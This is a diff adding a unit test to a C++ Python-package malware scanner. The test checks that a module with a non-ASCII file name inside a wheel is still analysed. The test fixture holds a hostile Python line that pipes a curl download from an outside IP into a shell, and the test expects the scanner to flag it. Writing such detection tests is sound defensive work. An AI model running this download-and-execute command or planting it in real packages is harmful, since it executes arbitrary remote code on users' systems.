@@ -55,6 +55,20 @@ TEST_F(ScannerTest, CleanWheel) {
   EXPECT_FALSE(r.error.has_value());
 }
 
+TEST_F(ScannerTest, ModuleNamedOutsideAsciiIsAnalysed) {
+  // A module whose name is not ASCII is as importable as any other; it was
+  // once read with an empty name and skipped as not Python.
+  std::string evil = "pkg/\xc3\xbc" "ber.py";
+  std::string whl = testing::MakeRawZip(
+      {File(evil, "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"),
+       File("pkg-1.0.dist-info/METADATA", "Name: pkg\nVersion: 1.0\n")},
+      {}, /*utf8_names=*/true);
+  Scanner full(&testing::Rules(), {});
+  ScanResult r = full.ScanBytes("pkg-1.0-py3-none-any.whl", "pkg-1.0-py3-none-any.whl", whl);
+  EXPECT_TRUE(Has(r, "download-exec"));
+  for (const Finding& f : r.findings) EXPECT_EQ(f.file, evil) << f.rule;
+}
+
 TEST_F(ScannerTest, WheelPosingAsATarball) {
   std::string whl = testing::MakeZip({File("ok/__init__.py", "")});
   ScanResult r = scanner_.ScanBytes("ok-1.0.tar.gz", "ok-1.0.tar.gz", whl);
